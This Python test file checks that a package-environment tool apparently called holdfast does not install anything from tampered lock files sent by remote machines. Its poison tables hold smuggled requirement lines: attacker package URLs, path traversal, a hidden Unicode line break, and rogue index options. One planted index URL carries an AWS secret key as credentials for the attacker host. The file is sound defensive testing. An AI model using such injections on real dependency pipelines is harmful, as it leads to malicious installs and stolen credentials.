"""A box writes the lock of a run as it likes. Another machine takes versions from it and nothing else: what is
installed there comes from the user's own files and indexes."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from holdfast.farside.environments.pins import pins
from integration.remote.benches import FarBench
from integration.runs.conftest import Bench
from kit.boxes import Boxes
from kit.conda_channel import Channel, Content, Package, python_module, python_package
from kit.homes import furnish
from kit.package_server import Index, package_index
from kit.wheels import make_wheel

pytestmark = pytest.mark.time_limit(300, "builds environments on several machines")

MakeBench = Callable[..., FarBench]
Lock = dict[str, Any]
SHOW = "import honest, sys\nprint(honest.__version__, sys.prefix)\n"


@dataclass(frozen=True)
class Ground:
    """A project with a box, `gpu1`, and this machine, `local`. `own` is the index that the user's files name, with
    `honest` 2.0, 1.0 and, for nobody, `extra`; `evil` is the attacker's, with files below `wheels`."""

    bench: FarBench
    own: Index
    evil: Index
    wheels: Path
    make: MakeBench

    def wants(self, *lines: str, path: str = "aml_config/conda_dependencies.yml") -> None:
        rows = "".join(f'      - "{line}"\n' for line in (f"--index-url {self.own.url()}", *lines))
        self.bench.write(path, f"dependencies:\n  - pip:\n{rows}")

    def machine(self, name: str) -> FarBench:
        """One more box."""
        made = self.make(name)
        managed(made)
        return made

    def told(self, change: Callable[[Lock], Lock]) -> str:
        """A run on the box, whose record of the environment the box changes before the laptop fetches it."""
        run = self.bench.start("t.py")
        self.bench.event(run, "ended")
        self.bench.until_left(run)
        path = self.bench.far(run) / "environment.json"
        lock = change(json.loads(path.read_text()))
        path.write_text(json.dumps(lock))
        self.bench.run("logs", "-f", "-r", run)
        assert json.loads((self.bench.near(run) / "environment.json").read_text()) == lock
        return run

    def forget(self) -> None:
        """This machine has run nothing of the project, and the project knows no packages yet."""
        shutil.rmtree(self.bench.root / ".holdfast" / "locks", ignore_errors=True)
        for folder in ("environments", "locks"):
            shutil.rmtree(here() / folder, ignore_errors=True)

    def submit_here(self, *words: str) -> Any:
        return Bench.run(self.bench, "submit", "-c", "local", *words, "t.py", timeout=180)

    def line(self, version: str) -> str:
        """As uv writes it."""
        sha256 = digest(self.own_wheels / f"honest-{version}-py3-none-any.whl")
        return f"honest=={version} \\\n    --hash=sha256:{sha256}\n"

    @property
    def own_wheels(self) -> Path:
        return self.wheels.parent / "own"

    def evil_wheel(self, name: str = "evil") -> Path:
        return self.wheels / f"{name}-1.0-py3-none-any.whl"


def here() -> Path:
    return Path(os.environ["HOLDFAST_HOME"])


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def managed(bench: FarBench) -> None:
    compute = bench.root / "aml_config" / f"{bench.box.name}.compute"
    compute.write_text(compute.read_text() + "userManagedEnvironment: false\n")


def installed(home: Path) -> list[list[str]]:
    """The packages of each environment of a home, as they are on the disk."""
    folders = sorted(home.glob("environments/*/lib/python3*/site-packages"))
    return [sorted(each.name[: -len(".dist-info")] for each in folder.glob("*.dist-info")) for folder in folders]


@pytest.fixture
def ground(far_bench: MakeBench, tmp_path: Path) -> Iterator[Ground]:
    bench = far_bench()
    managed(bench)
    furnish(here())
    bench.write("aml_config/local.compute", "type: local\nuserManagedEnvironment: false\n")
    bench.write("aml_config/local.runconfig", "Target: local\nFramework: Python\n")
    bench.write("t.py", SHOW)
    for name, version in (("honest", "1.0"), ("honest", "2.0"), ("extra", "1.0")):
        make_wheel(tmp_path / "own", name, version)
    for name in ("evil", "honest"):
        make_wheel(tmp_path / "evil", name, "1.0", {f"{name}.py": '__version__ = "evil"\n'})
    with package_index(tmp_path / "own") as own, package_index(tmp_path / "evil") as evil:
        made = Ground(bench, own, evil, tmp_path / "evil", far_bench)
        made.wants("honest")
        yield made


def _url(ground: Ground, name: str = "evil") -> str:
    return f"{ground.evil.url().removesuffix('/simple')}/files/{name}-1.0-py3-none-any.whl"


def _own_line(ground: Ground) -> str:
    return ground.line("1.0")


POISONS: dict[str, Callable[[Ground], str]] = {
    "a space and an address": lambda g: _own_line(g) + f" evil @ {_url(g)}\n",
    "a space and a file of this machine": lambda g: _own_line(g) + f" evil @ file://{g.evil_wheel()}\n",
    "a space and a variable": lambda g: _own_line(g) + f" ${{HOME}}/../../../../../..{g.evil_wheel()}\n",
    "an address": lambda g: _own_line(g) + f"evil @ {_url(g)}\n",
    "an absolute path": lambda g: _own_line(g) + f"{g.evil_wheel()}\n",
    "a path of the project": lambda g: _own_line(g) + "${HOLDFAST_FILES}/../evil/evil-1.0-py3-none-any.whl\n",
    "one more name": lambda g: (
        _own_line(g) + f"extra==1.0 --hash=sha256:{digest(g.own_wheels / 'extra-1.0-py3-none-any.whl')}\n"
    ),
    "another package under the name": lambda g: f" honest @ {_url(g, 'honest')}\n",
    "a hash of another file": lambda g: f"honest==1.0 \\\n    --hash=sha256:{digest(g.evil_wheel('honest'))}\n",
    "one more hash": lambda g: g.line("1.0").rstrip() + f" \\\n    --hash=sha256:{digest(g.evil_wheel('honest'))}\n",
    "an index": lambda g: f"--index-url {g.evil.url()}\nhonest==1.0\n",
    "an index after a continued line": lambda g: f"honest==1.0 \\\n  --index-url {g.evil.url()}\n",
    "a folder of wheels": lambda g: f"honest==1.0\n --find-links {g.wheels}\n",
    "a folder in development": lambda g: f"honest==1.0 \\\n -e {g.wheels}\n",
    "an address after a marker": lambda g: _own_line(g) + f" evil @ {_url(g)} ; python_version > '3'\n",
    "a line that only Unicode ends": lambda g: f"honest==1.0\u2028 evil @ {_url(g)}\n",
}


INSTALLED = ("a space and an address", "one more name", "another package under the name", "a hash of another file")


def test_nothing_that_a_box_writes_into_a_lock_is_installed_on_this_machine(ground: Ground) -> None:
    """One run for each of these, which are read in different ways; of all others the parsed versions are looked at."""
    for poison in POISONS.values():
        assert pins(poison(ground)).items() <= {("honest", "1.0"), ("extra", "1.0")}
    assert_not_installed(ground, INSTALLED)


@pytest.mark.soak
def test_nothing_of_all_that_a_box_could_write_is_installed(ground: Ground) -> None:
    assert_not_installed(ground, POISONS)


def assert_not_installed(ground: Ground, names: Iterable[str]) -> None:
    """For each the box tells a lock with it, then the same spec is submitted here."""
    found = {}
    for name in names:
        text = POISONS[name](ground)
        ground.told(lambda lock, text=text: {**lock, "requirements": text})  # type: ignore[misc]  # its own default
        result = ground.submit_here()
        found[name] = (result.code, result.out.split()[:1], installed(here()))
        ground.forget()
    clean = [(0, [version], [[f"honest-{version}"]]) for version in ("1.0", "2.0")]
    assert {name: each for name, each in found.items() if each not in clean} == {}
    assert ground.evil.seen == []


def test_nor_on_another_box(ground: Ground) -> None:
    ground.told(lambda lock: {**lock, "requirements": ground.line("1.0") + f" evil @ {_url(ground)}\nextra==1.0\n"})
    other = ground.machine("gpu2")
    result = other.submit("t.py")
    assert (result.code, result.out.split()[:1]) == (0, ["1.0"]), result.err
    assert installed(other.home) == [["honest-1.0"]]
    assert "The packages differ from those of the project's lock" in result.err
    assert ground.evil.seen == []


def test_an_environment_of_another_spec_is_not_had_by_telling_its_lock(ground: Ground) -> None:
    """A text that this machine made itself, for other packages, is no lock of this spec."""
    ground.wants("honest", "extra")
    assert ground.submit_here().code == 0
    (own,) = here().glob("locks/*.json")
    text = json.loads(own.read_text())["requirements"]
    ground.wants("honest")
    ground.told(lambda lock: {**lock, "requirements": text})
    result = ground.submit_here()
    assert result.code == 0, result.err
    assert "extra" not in ground.bench.record()["environment"]
    assert ["honest-2.0"] in installed(here())
    prefix = Path(result.out.split()[1])
    assert not list(prefix.glob("lib/python3*/site-packages/extra*"))


def test_versions_of_one_machine_are_kept_on_the_next_and_found_again_without_a_program(ground: Ground) -> None:
    for wheel in ground.own_wheels.glob("honest-2.0*"):
        wheel.rename(ground.wheels / "later")
    assert ground.bench.submit("t.py").out.startswith("1.0 ")
    (ground.wheels / "later").rename(ground.own_wheels / "honest-2.0-py3-none-any.whl")
    other = ground.machine("gpu2")
    for name, submit in (("gpu2", other.submit), ("local", lambda script: ground.submit_here())):
        first, second = submit("t.py"), submit("t.py")
        assert (first.out[:4], second.out) == ("1.0 ", first.out), (name, first.err, second.err)
        run = ground.bench.record()["run_id"]
        home = other.home if name == "gpu2" else here()
        log = next(home.glob(f"runs/*/{run}/control_log"))
        assert " pip " not in log.read_text(), name
    upgraded = other.submit("--upgrade", "t.py")
    assert upgraded.out.startswith("2.0 "), upgraded.err
    again = ground.submit_here()
    assert again.out.startswith("2.0 "), "the project's newest lock counts before what this machine had"


def test_the_machine_that_made_a_lock_installs_it_as_it_is(ground: Ground) -> None:
    assert ground.submit_here().out.startswith("2.0 ")
    (here() / "locks").rename(here() / "before")
    (here() / "locks").mkdir()
    for mark in (here() / "before").glob("*.made"):
        mark.rename(here() / "locks" / mark.name)
    assert Bench.run(ground.bench, "environment", "remove", "--all", "--yes").code == 0
    before = list(ground.own.seen)
    again = ground.submit_here()
    assert again.out.startswith("2.0 "), again.err
    log = next(here().glob(f"runs/*/{ground.bench.record()['run_id']}/control_log")).read_text()
    assert " pip sync " in log
    assert " pip compile " not in log, (before, ground.own.seen)


def test_the_environment_of_a_run_on_a_box_is_had_here_if_the_indexes_have_exactly_that(ground: Ground) -> None:
    run = ground.told(lambda lock: {**lock, "requirements": ground.line("1.0")})
    ground.wants("extra")
    ground.bench.write("t.py", SHOW)
    result = ground.submit_here("--environment-of", run)
    assert (result.code, result.out.split()[:1]) == (0, ["1.0"]), result.err
    assert installed(here()) == [["honest-1.0"]]
    again = ground.submit_here("--environment-of", run)
    assert again.out == result.out
    log = next(here().glob(f"runs/*/{ground.bench.record()['run_id']}/control_log")).read_text()
    assert " pip " not in log


def test_and_refused_if_they_do_not(ground: Ground) -> None:
    for name in ("a space and an address", "one more name", "a hash of another file"):
        text = POISONS[name](ground)
        run = ground.told(lambda lock, text=text: {**lock, "requirements": text})  # type: ignore[misc]  # its default
        result = ground.submit_here("--environment-of", run)
        assert result.code == 250, (name, result.err)
        assert "this machine cannot recreate the other run's environment" in result.err, name
        assert "without --environment-of" in result.err, name
        assert installed(here()) == [], name
    assert ground.evil.seen == []


def test_packages_for_a_box_are_chosen_here_whatever_a_box_told(ground: Ground) -> None:
    evil = f" evil @ {_url(ground)} --hash=sha256:{digest(ground.evil_wheel())}\n"
    ground.told(lambda lock: {**lock, "requirements": ground.line("1.0") + evil})
    other = ground.machine("gpu2")
    result = other.submit("--ship-packages", "t.py")
    assert (result.code, result.out.split()[:1]) == (0, ["1.0"]), result.err
    assert installed(other.home) == [["honest-1.0"]]
    assert ground.evil.seen == []
    second = other.submit("--ship-packages", "t.py")
    assert second.out == result.out
    assert not other.record()["environment_built_in"]


def test_an_imported_run_tells_other_machines_neither_packages_nor_variables(
    ground: Ground, tmp_path: Path, boxes: Boxes
) -> None:
    """Of a run that was imported, all that is known of its environment is the word of its box."""
    bench = ground.bench
    run = bench.start("t.py")
    bench.event(run, "ended")
    plan = json.loads((bench.far(run) / "plan.json").read_text())
    plan["environment"]["requirements"] = [["extra", "requirements.txt:1"]]
    plan["environment"]["options"] = [f"--index-url {ground.evil.url('me:${AWS_SECRET_ACCESS_KEY}')}"]
    plan["environment"]["secrets"] = ["AWS_SECRET_ACCESS_KEY"]
    (bench.far(run) / "plan.json").write_text(json.dumps(plan))
    second = FarBench(tmp_path / "second", bench.home, bench.command, bench.box.seen_from(boxes.client()))
    shutil.copytree(bench.root / "aml_config", second.root / "aml_config")
    second.attach(second.box)
    managed(second)
    second.write("t.py", SHOW)
    imported = second.run("history", "import", "-t", "gpu1", "--project", "project")
    assert imported.code == 0, imported.err

    words, known = ("submit", "--environment-of", run), {"AWS_SECRET_ACCESS_KEY": "wJalrXUt"}
    refused = Bench.run(second, *words, "-c", "local", "t.py", env=known)
    assert refused.code == 246, refused.err
    assert "only `gpu1` says what its environment is" in refused.err
    dry = second.run(*words, "-c", "gpu1", "--dry-run", "-o", "json", "t.py", env=known)
    assert dry.code == 0, dry.err
    assert json.loads(dry.out)["environment"]["secrets"] == []
    there = second.run(*words, "-c", "gpu1", "t.py", env=known)
    assert (there.code, there.out.split()[:1]) == (0, ["2.0"]), there.err
    assert not (ground.evil.seen or ground.evil.refused)


@pytest.fixture(scope="session")
def channel(tmp_path_factory: pytest.TempPathFactory) -> Channel:
    folder = tmp_path_factory.mktemp("channel")
    return Channel(folder, python_package(), python_module("greet", "1.0"), python_module("greet", "2.0"))


@pytest.fixture(scope="session")
def evil_channel(tmp_path_factory: pytest.TempPathFactory) -> Channel:
    files: dict[str, str | Content] = {"site-packages/greet.py": '__version__ = "evil"\n'}
    evil = {"site-packages/evil.py": ""}
    return Channel(
        tmp_path_factory.mktemp("evil"),
        Package("greet", "1.0", "py_0", ("python >=3.6",), noarch="python", files=files),
        Package("evil", "1.0", "py_0", ("python >=3.6",), noarch="python", files=evil),
    )


def _record(channel: Channel, name: str) -> dict[str, Any]:
    """As a lock has it."""
    path = channel.archive(name)
    return {
        "name": name, "version": "1.0", "build": "py_0", "build_number": 0, "subdir": "noarch", "url": path.as_uri(),
        "sha256": digest(path), "md5": "", "size": path.stat().st_size, "noarch": "python",
        "depends": ["python >=3.6"], "constrains": [], "site_packages": "",
    }  # fmt: skip


def _with_greet(lock: Lock, record: dict[str, Any]) -> Lock:
    return {**lock, "conda": [each for each in lock["conda"] if each["name"] != "greet"] + [record]}


CONDA_POISONS: dict[str, Callable[[Lock, Channel], Lock]] = {
    "another archive": lambda lock, evil: _with_greet(lock, _record(evil, "greet")),
    "one more package": lambda lock, evil: {**lock, "conda": [*lock["conda"], _record(evil, "evil")]},
    "a build that is none": lambda lock, evil: _with_greet(
        lock, {**_record(evil, "greet"), "build": "py_0[url=file:///evil]"}
    ),
}


def test_no_conda_package_that_another_machine_names_is_installed(
    bench: Bench, channel: Channel, evil_channel: Channel
) -> None:
    """This machine forgets what it made, so that each lock is one of another machine."""
    bench.write("aml_config/local.compute", "type: local\nuserManagedEnvironment: false\n")
    bench.write("aml_config/local.runconfig", "Target: local\nFramework: Python\n")
    bench.write("t.py", "import greet\nprint(greet.__version__)\n")
    spec = f"channels:\n  - {channel.url}\n  - nodefaults\ndependencies:\n  - python\n  - greet\n"
    bench.write("aml_config/conda_dependencies.yml", spec.replace("- greet", "- greet=1.0"))
    assert bench.submit("-c", "local", "t.py", timeout=300).out == "1.0\n"
    own = json.loads((bench.near(bench.record()["run_id"]) / "environment.json").read_text())
    bench.write("aml_config/conda_dependencies.yml", spec)
    plan = json.loads(bench.submit("-c", "local", "--dry-run", "t.py", "-o", "json").out)
    folder = bench.root / ".holdfast" / "locks" / plan["environment"]["spec"]
    folder.mkdir(parents=True)

    found = {}
    for name, poison in {"only older": lambda lock, _: lock, **CONDA_POISONS}.items():
        told = poison({**own, "spec": plan["environment"]["spec"]}, evil_channel)
        for left in (*(bench.root / ".holdfast" / "locks").glob("*/*"), *(bench.home / "locks").iterdir()):
            left.unlink()
        for left in bench.home.glob("environments/[0-9a-f]*[0-9a-f]"):
            shutil.rmtree(left)
        (folder / "linux.json").write_text(json.dumps(told))
        result = bench.submit("-c", "local", "t.py", timeout=300)
        has_evil = list(bench.home.glob("environments/*/lib/python3*/site-packages/evil.py")) != []
        found[name] = (result.code, result.out, has_evil)
    older, newest = (0, "1.0\n", False), (0, "2.0\n", False)
    assert found == {
        "only older": older, "another archive": older, "one more package": older, "a build that is none": newest,
    }  # fmt: skip
